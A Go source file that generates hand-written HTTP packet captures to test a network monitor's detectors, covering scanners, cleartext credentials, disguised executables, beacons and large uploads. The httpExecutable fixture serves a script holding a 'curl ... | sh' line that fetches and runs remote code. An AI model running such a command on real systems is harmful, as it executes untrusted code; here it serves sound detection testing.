package main

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"fmt"
	"time"
)

// HTTP captures: a normal browsing session that must stay silent, and one
// capture per detector of the http module. Every message is written by
// hand, so the answers are known: the paths, the status codes, the bodies.

var (
	httpClient  = host{mac(0x02, 0x00, 0, 0, 0, 0x21), ip(10, 0, 0, 21)}
	httpClient2 = host{mac(0x02, 0x00, 0, 0, 0, 0x22), ip(10, 0, 0, 22)}
	httpServer  = host{gateway.mac, ip(203, 0, 113, 80)}
)

const browserUA = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"

// httpConn is one keep-alive connection; each exchange is a request and
// a response, each in one segment (the bodies are small).
type httpConn struct {
	k *sipTCPConn
	t time.Duration
}

func openHTTP(w *capWriter, t time.Duration, c, s host, cport, sport uint16) *httpConn {
	return &httpConn{k: openTCP(w, t, c, s, cport, sport), t: t + 3*time.Millisecond}
}

func (h *httpConn) exchange(req, resp []byte) {
	h.k.send(h.t, true, req)
	h.t += 20 * time.Millisecond
	for len(resp) > 0 { // segments of at most 1400 bytes
		n := min(len(resp), 1400)
		h.k.send(h.t, false, resp[:n])
		resp = resp[n:]
		h.t += time.Millisecond
	}
	h.t += 10 * time.Millisecond
}

func (h *httpConn) upload(req []byte) {
	for len(req) > 0 {
		n := min(len(req), 1400)
		h.k.send(h.t, true, req[:n])
		req = req[n:]
		h.t += time.Millisecond
	}
}

func (h *httpConn) close() { h.k.close(h.t) }

func get(path, hostName, ua string, extra ...string) []byte {
	var b bytes.Buffer
	fmt.Fprintf(&b, "GET %s HTTP/1.1\r\nHost: %s\r\n", path, hostName)
	fields(&b, "User-Agent", ua, extra)
	b.WriteString("Accept: */*\r\n\r\n")
	return b.Bytes()
}

func post(path, hostName, ua, ctype string, body []byte) []byte {
	var b bytes.Buffer
	fmt.Fprintf(&b, "POST %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nContent-Type: %s\r\nContent-Length: %d\r\n\r\n", path, hostName, ua, ctype, len(body))
	b.Write(body)
	return b.Bytes()
}

// fields writes the field "name: value" unless value is empty, then the
// extra field lines.
func fields(b *bytes.Buffer, name, value string, extra []string) {
	if value != "" {
		fmt.Fprintf(b, "%s: %s\r\n", name, value)
	}
	for _, e := range extra {
		b.WriteString(e + "\r\n")
	}
}

func response(code int, reason, ctype string, body []byte, extra ...string) []byte {
	var b bytes.Buffer
	fmt.Fprintf(&b, "HTTP/1.1 %d %s\r\nServer: nginx/1.24.0\r\n", code, reason)
	fields(&b, "Content-Type", ctype, extra)
	fmt.Fprintf(&b, "Content-Length: %d\r\n\r\n", len(body))
	b.Write(body)
	return b.Bytes()
}

// chunked writes a response with a chunked body and a trailer.
func chunked(ctype string, body []byte, size int) []byte {
	var b bytes.Buffer
	fmt.Fprintf(&b, "HTTP/1.1 200 OK\r\nServer: nginx/1.24.0\r\nContent-Type: %s\r\nTransfer-Encoding: chunked\r\n\r\n", ctype)
	for len(body) > 0 {
		n := min(size, len(body))
		fmt.Fprintf(&b, "%x\r\n", n)
		b.Write(body[:n])
		b.WriteString("\r\n")
		body = body[n:]
	}
	b.WriteString("0\r\nX-Checksum: done\r\n\r\n")
	return b.Bytes()
}

func gz(b []byte) []byte {
	var out bytes.Buffer
	zw, _ := gzip.NewWriterLevel(&out, gzip.BestCompression)
	zw.Write(b)
	zw.Close()
	return out.Bytes()
}

// page is a deterministic HTML page of about n bytes.
func page(n int) []byte {
	var b bytes.Buffer
	b.WriteString("<!doctype html><html><head><title>example</title></head><body>")
	for i := 0; b.Len() < n; i++ {
		fmt.Fprintf(&b, "<p>paragraph %d of the example page</p>\n", i)
	}
	b.WriteString("</body></html>")
	return b.Bytes()
}

// png is the start of a PNG image.
var png = append([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x06\x00\x00\x00"), bytes.Repeat([]byte{0x55}, 200)...)

// httpNormal: a browser fetches a page (gzip), a chunked script, an image
// (a 304 too), posts a JSON form; all on port 80.
func httpNormal(w *capWriter) {
	h := openHTTP(w, 0, httpClient, httpServer, 50100, 80)
	html := page(3000)
	h.exchange(get("/", "www.example.com", browserUA), response(200, "OK", "text/html; charset=utf-8", gz(html), "Content-Encoding: gzip"))
	h.exchange(get("/app.js", "www.example.com", browserUA), chunked("application/javascript", bytes.Repeat([]byte("console.log(1);\n"), 100), 700))
	h.exchange(get("/logo.png", "www.example.com", browserUA), response(200, "OK", "image/png", png))
	h.exchange(get("/logo.png", "www.example.com", browserUA, "If-None-Match: \"abc\""), []byte("HTTP/1.1 304 Not Modified\r\nServer: nginx/1.24.0\r\nETag: \"abc\"\r\n\r\n"))
	h.exchange(post("/api/comments", "www.example.com", browserUA, "application/json", []byte(`{"text":"nice page"}`)), response(201, "Created", "application/json", []byte(`{"id":7}`)))
	h.close()
}

// httpScanner: nikto announces itself; another client walks 30 missing paths.
func httpScanner(w *capWriter) {
	h := openHTTP(w, 0, httpClient, httpServer, 50200, 80)
	h.exchange(get("/admin/", "www.example.com", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)"), response(404, "Not Found", "text/html", []byte("<h1>404</h1>")))
	h.close()
	h = openHTTP(w, time.Second, httpClient2, httpServer, 50201, 80)
	for i := range 30 {
		h.exchange(get(fmt.Sprintf("/backup-%02d.zip", i), "www.example.com", browserUA), response(404, "Not Found", "text/html", []byte("<h1>404</h1>")))
	}
	h.close()
}

// The secrets of httpCredentials, which the JSON must not hold unless the
// call reveals secrets.
const (
	basicPassword = "Tr0ub4dor&3"
	formPassword  = "hunter2-secret"
)

// httpCredentials: Basic authorization and a login form, in cleartext.
func httpCredentials(w *capWriter) {
	h := openHTTP(w, 0, httpClient, httpServer, 50300, 80)
	auth := "Authorization: Basic " + base64.StdEncoding.EncodeToString([]byte("alice:"+basicPassword))
	h.exchange(get("/private/", "intranet.example.com", browserUA, auth), response(200, "OK", "text/html", page(500)))
	h.exchange(post("/login", "intranet.example.com", browserUA, "application/x-www-form-urlencoded", []byte("username=bob&password="+formPassword+"&remember=1")),
		response(302, "Found", "text/html", nil, "Location: /home"))
	h.close()
}

// pe is the start of a Windows program: an MZ header pointing at "PE\0\0".
func pe() []byte {
	b := make([]byte, 1024)
	copy(b, "MZ")
	b[0x3c] = 0x80
	copy(b[0x80:], "PE\x00\x00")
	for i := 0x100; i < len(b); i++ {
		b[i] = byte(i * 7)
	}
	return b
}

// httpExecutable: a program served as a JPEG image, and a shell script.
func httpExecutable(w *capWriter) {
	h := openHTTP(w, 0, httpClient, httpServer, 50400, 80)
	h.exchange(get("/images/cat.jpg", "cdn.example.net", browserUA), response(200, "OK", "image/jpeg", pe()))
	h.exchange(get("/install.sh", "cdn.example.net", browserUA), response(200, "OK", "text/plain", []byte("#!/bin/sh\ncurl -s http://203.0.113.80/x | sh\n")))
	h.close()
}

// httpErrorSpike: a server answers 15 requests in 5 seconds with 503.
func httpErrorSpike(w *capWriter) {
	h := openHTTP(w, 0, httpClient, httpServer, 50500, 80)
	for range 15 {
		h.exchange(get("/api/orders", "shop.example.com", browserUA), response(503, "Service Unavailable", "text/html", []byte("backend down")))
		h.t += 300 * time.Millisecond
	}
	h.close()
}

// httpSuspiciousAgent: a Python script and a request with no user agent.
func httpSuspiciousAgent(w *capWriter) {
	h := openHTTP(w, 0, httpClient, httpServer, 50600, 80)
	h.exchange(get("/update/check", "updates.example.org", "python-requests/2.31.0"), response(200, "OK", "application/json", []byte(`{"ok":true}`)))
	h.exchange(get("/beacon", "updates.example.org", ""), response(200, "OK", "text/plain", []byte("ok")))
	h.close()
}

// httpNonStandardPort: HTTP to a server on port 4444.
func httpNonStandardPort(w *capWriter) {
	h := openHTTP(w, 0, httpClient, httpServer, 50700, 4444)
	h.exchange(get("/tasks", "203.0.113.80:4444", browserUA), response(200, "OK", "application/json", []byte(`{"task":"sleep"}`)))
	h.close()
}

// httpLargeUpload: 100,000 bytes posted to a host seen once.
func httpLargeUpload(w *capWriter) {
	h := openHTTP(w, 0, httpClient, httpServer, 50800, 80)
	body := bytes.Repeat([]byte("0123456789abcdef"), 6250)
	h.upload(post("/upload", "drop.example.io", browserUA, "application/octet-stream", body))
	h.t += 20 * time.Millisecond
	h.k.send(h.t, false, response(200, "OK", "text/plain", []byte("stored")))
	h.t += 10 * time.Millisecond
	h.close()
}

// httpMalformed: conflicting Content-Length values, then a bad chunk size.
func httpMalformed(w *capWriter) {
	h := openHTTP(w, 0, httpClient, httpServer, 50900, 80)
	h.exchange([]byte("GET /a HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: "+browserUA+"\r\nContent-Length: 3\r\nContent-Length: 5\r\n\r\n"),
		[]byte("HTTP/1.1 400 Bad Request\r\nServer: nginx/1.24.0\r\nContent-Length: 0\r\n\r\n"))
	h.exchange(get("/b", "www.example.com", browserUA), []byte("HTTP/1.1 200 OK\r\nServer: nginx/1.24.0\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nhello\r\n0\r\n\r\n"))
	h.close()
}
